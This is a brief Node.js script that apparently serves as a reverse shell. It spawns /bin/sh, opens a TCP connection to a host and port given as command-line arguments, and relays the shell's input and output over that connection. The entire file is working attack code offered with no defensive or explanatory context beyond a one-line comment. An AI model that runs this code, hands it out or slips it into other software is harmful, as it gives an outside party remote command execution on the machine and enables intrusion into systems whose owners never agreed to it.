// A shell on libuv's socket pairs, relayed to the connection.
const shell = require("child_process").spawn("/bin/sh");
const line = require("net").connect(Number(process.argv[3]), process.argv[2], () => {
  line.pipe(shell.stdin);
  shell.stdout.pipe(line);
  shell.stderr.pipe(line);
});
shell.on("exit", () => process.exit(0));
